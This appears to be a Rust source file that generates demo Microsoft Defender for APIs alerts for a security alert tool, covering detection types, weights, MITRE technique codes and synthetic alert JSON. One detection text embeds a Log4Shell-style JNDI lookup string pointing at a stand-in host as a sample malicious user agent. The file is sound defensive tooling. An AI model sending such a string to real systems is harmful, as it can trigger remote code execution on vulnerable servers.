//! Microsoft Defender for APIs, as its list of alerts gives them.

use serde_json::json;
use tocsin_model::severity::Severity;
use tocsin_model::status::{CloseReason, Status};
use tocsin_model::time::{Span, Timestamp};

use super::times;
use crate::demo::calendar::Calendar;
use crate::demo::cast::{self, ENDPOINTS};
use crate::demo::dice::Dice;
use crate::demo::people::{Habit, handle};
use crate::demo::{DemoAlert, Happening, Moment, Origin, content};

const SUBSCRIPTION: &str = "6b3e1c55-0f5d-4a5e-9c0a-4a1b7e0d9f11";
/// 19-digit number from which the ticks of the start are taken away: the newest sorts first.
const REVERSED_FROM: i64 = 3_155_378_975_999_999_999;
/// Ticks of 100 ns from year 1 to 1970.
const TICKS_TO_1970: i64 = 621_355_968_000_000_000;

/// A detection of Defender for APIs.
pub(crate) struct Detection {
    pub kind: &'static str,
    pub title: &'static str,
    pub severity: Severity,
    pub intent: &'static str,
    pub text: &'static str,
}

const fn medium(kind: &'static str, title: &'static str, intent: &'static str, text: &'static str) -> Detection {
    Detection { kind, title, severity: Severity::Medium, intent, text }
}

pub(crate) const TOR: Detection = medium(
    "API_AccessFromTorExitNode",
    "Access from a Tor exit node to an API endpoint",
    "PreAttack",
    "An address of the Tor network called the endpoint.",
);
pub(crate) const ENUMERATION: Detection = medium(
    "API_ParameterEnumeration",
    "Parameter enumeration on an API endpoint",
    "InitialAccess",
    "One address tried an unusually large number of different parameter values on the endpoint.",
);
pub(crate) const LARGE_RESPONSE: Detection = medium(
    "API_SpikeInPayload",
    "Unusually large response payload transmitted between a single IP address and an API endpoint",
    "InitialAccess",
    "Responses to this address were much larger than in the thirty days before.",
);

const DETECTIONS: [(i64, Detection); 13] = [
    (
        16,
        medium(
            "API_SpikeInAPITraffic",
            "Suspicious spike in API traffic from a single IP address to an API endpoint",
            "Impact",
            "One address called the endpoint far more often than it usually does.",
        ),
    ),
    (
        10,
        medium(
            "API_PopulationSpikeInAPITraffic",
            "Suspicious population-level spike in API traffic to an API endpoint",
            "Impact",
            "All callers together called the endpoint far more often than usual.",
        ),
    ),
    (9, LARGE_RESPONSE),
    (
        6,
        medium(
            "API_SpikeInPayload",
            "Unusually large request body transmitted between a single IP address and an API endpoint",
            "InitialAccess",
            "Request bodies of this address were much larger than in the thirty days before.",
        ),
    ),
    (
        8,
        medium(
            "API_SpikeInLatency",
            "(Preview) Suspicious spike in latency for traffic between a single IP address and an API endpoint",
            "InitialAccess",
            "Calls between this address and the endpoint took much longer than usual.",
        ),
    ),
    (
        8,
        medium(
            "API_SprayInRequests",
            "API requests spray from a single IP address to an unusually large number of distinct API endpoints",
            "Discovery",
            "One address touched far more endpoints within twenty minutes than is usual.",
        ),
    ),
    (8, ENUMERATION),
    (
        3,
        medium(
            "API_DistributedParameterEnumeration",
            "Distributed parameter enumeration on an API endpoint",
            "InitialAccess",
            "Many addresses together tried an unusually large number of different parameter values.",
        ),
    ),
    (
        9,
        medium(
            "API_UnseenParamType",
            "Parameter value(s) with anomalous data types in an API call",
            "Impact",
            "A parameter had a type of value that was hardly ever seen for it.",
        ),
    ),
    (
        10,
        medium(
            "API_UnseenParam",
            "Previously unseen parameter used in an API call",
            "Impact",
            "A parameter was used that was never seen on this endpoint.",
        ),
    ),
    (5, TOR),
    (
        5,
        Detection {
            kind: "API_AccessFromSuspiciousIP",
            title: "API Endpoint access from suspicious IP",
            severity: Severity::High,
            intent: "PreAttack",
            text: "An address that Microsoft's threat intelligence rates as a likely threat called the endpoint.",
        },
    ),
    (
        3,
        medium(
            "API_AccessFromSuspiciousUserAgent",
            "Suspicious User Agent detected",
            "Execution",
            "The user agent held what is typical of an attempt to run code: ${jndi:ldap://probe.example.com/a}",
        ),
    ),
];

pub(in crate::demo) fn alerts(seed: u64, calendar: &Calendar) -> Vec<DemoAlert> {
    let mut dice = Dice::new(seed, "defender");
    let mut alerts = Vec::new();
    for time in times(&mut dice, calendar, 9, false) {
        let detection = dice.weighted(&DETECTIONS);
        let (address, endpoint) = (cast::outside(&mut dice), *dice.pick(&ENDPOINTS));
        let mut alert = found(&mut dice, detection, time, &address, endpoint);
        if dice.chance(6) {
            let at = alert.received_at.plus(Span::from_millis(dice.between(1, 30) * Span::HOUR.millis()));
            let (word, reason) = ("Resolved", Some(CloseReason::source_resolved()));
            alert.history.push(Moment { at, what: Happening::Source { word, status: Status::Closed, reason } });
        } else {
            let habit = if detection.severity == Severity::High { Habit::Serious } else { Habit::Routine };
            handle(&mut dice, calendar, habit, &mut alert);
        }
        alerts.push(alert);
    }
    alerts
}

/// An alert as the list gives it.
pub(in crate::demo) fn found(
    dice: &mut Dice,
    detection: &Detection,
    time: Timestamp,
    address: &str,
    (api, endpoint): (&str, &str),
) -> DemoAlert {
    let ticks = REVERSED_FROM - (TICKS_TO_1970 + time.millis() * 10_000);
    let name = format!("{ticks}_{}", dice.uuid());
    let word = if detection.severity == Severity::High { "High" } else { "Medium" };
    let mut says = content(detection.severity, Some(word), detection.title, time);
    says.source_status = Some("Active".to_owned());
    says.description = Some(format!("{}\n{endpoint} of {api}, called by {address}", detection.text));
    says.category = Some("Defender for APIs".to_owned());
    says.alert_type = Some(detection.kind.to_owned());
    says.tactic = Some(detection.intent.to_owned());
    says.techniques = techniques(detection.kind);
    says.entities.client_ip = vec![address.to_owned()];
    says.entities.endpoint = vec![endpoint.to_owned()];
    says.tags = vec![format!("api:{api}")];
    let service = format!(
        "/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-apis-prod/providers/Microsoft.ApiManagement/service/apim-shop"
    );
    let late = dice.between(120_000, 900_000);
    let generated = time.plus(Span::from_millis(late * 3 / 4)).to_string();
    let document = json!({
        "id": format!("/subscriptions/{SUBSCRIPTION}/resourceGroups/rg-apis-prod/providers/Microsoft.Security/locations/westeurope/alerts/{name}"),
        "name": name, "type": "Microsoft.Security/Locations/alerts",
        "properties": {
            "version": "2022-01-01", "alertType": detection.kind, "systemAlertId": name,
            "productName": "Microsoft Defender for Cloud", "productComponentName": "Defender for APIs",
            "vendorName": "Microsoft", "alertDisplayName": detection.title, "description": detection.text,
            "severity": word, "intent": detection.intent, "status": "Active", "isIncident": false,
            "startTimeUtc": time, "endTimeUtc": time, "timeGeneratedUtc": generated,
            "compromisedEntity": "apim-shop", "techniques": says.techniques, "subTechniques": [],
            "resourceIdentifiers": [{ "type": "AzureResource", "azureResourceId": format!("{service}/apis/{api}") }],
            "entities": [{ "type": "azure-resource", "resourceId": service }, { "type": "ip", "address": address }],
            "extendedProperties": { "API endpoint": endpoint, "API name": api, "Client IP address": address },
        },
    });
    DemoAlert::new(Origin::Defender, name, says, late).in_document(&document)
}

fn techniques(kind: &str) -> Vec<String> {
    let technique = match kind {
        "API_AccessFromTorExitNode" | "API_AccessFromSuspiciousIP" => "T1090.003",
        "API_ParameterEnumeration" | "API_DistributedParameterEnumeration" => "T1190",
        "API_SprayInRequests" => "T1595",
        "API_SpikeInAPITraffic" | "API_PopulationSpikeInAPITraffic" => "T1499",
        "API_AccessFromSuspiciousUserAgent" => "T1059",
        _ => return Vec::new(),
    };
    vec![technique.to_owned()]
}
